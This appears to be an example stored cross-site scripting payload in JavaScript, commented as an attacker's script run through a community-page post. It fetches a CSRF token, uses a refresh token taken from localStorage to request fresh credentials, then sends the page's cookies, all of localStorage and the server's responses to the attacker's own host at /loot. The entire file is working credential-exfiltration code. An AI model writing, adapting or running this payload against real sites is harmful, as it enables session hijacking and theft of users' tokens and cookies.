// The attacker's script, run by a post in the community's page: sends away whatever a script can reach.
(async () => {
  const site = new URL(document.currentScript?.src ?? globalThis.attacker).origin;
  const answers = {};
  const ask = async (method, path, headers, body) => {
    const answer = await fetch(path, { method, headers, body });
    if (answer.ok) Object.assign(answers, await answer.json());
  };
  await ask("GET", "/csrf");
  const stored = localStorage.getItem("refresh");
  const json = stored ? { "content-type": "application/json" } : {};
  const csrf = answers.csrf_token ? { "x-csrf-token": answers.csrf_token } : {};
  await ask("POST", "/refresh", { ...json, ...csrf }, stored ? JSON.stringify({ refresh_token: stored }) : undefined);
  const loot = { cookie: document.cookie, storage: { ...localStorage }, answers };
  await fetch(`${site}/loot`, { method: "POST", mode: "no-cors", body: JSON.stringify(loot) });
})();
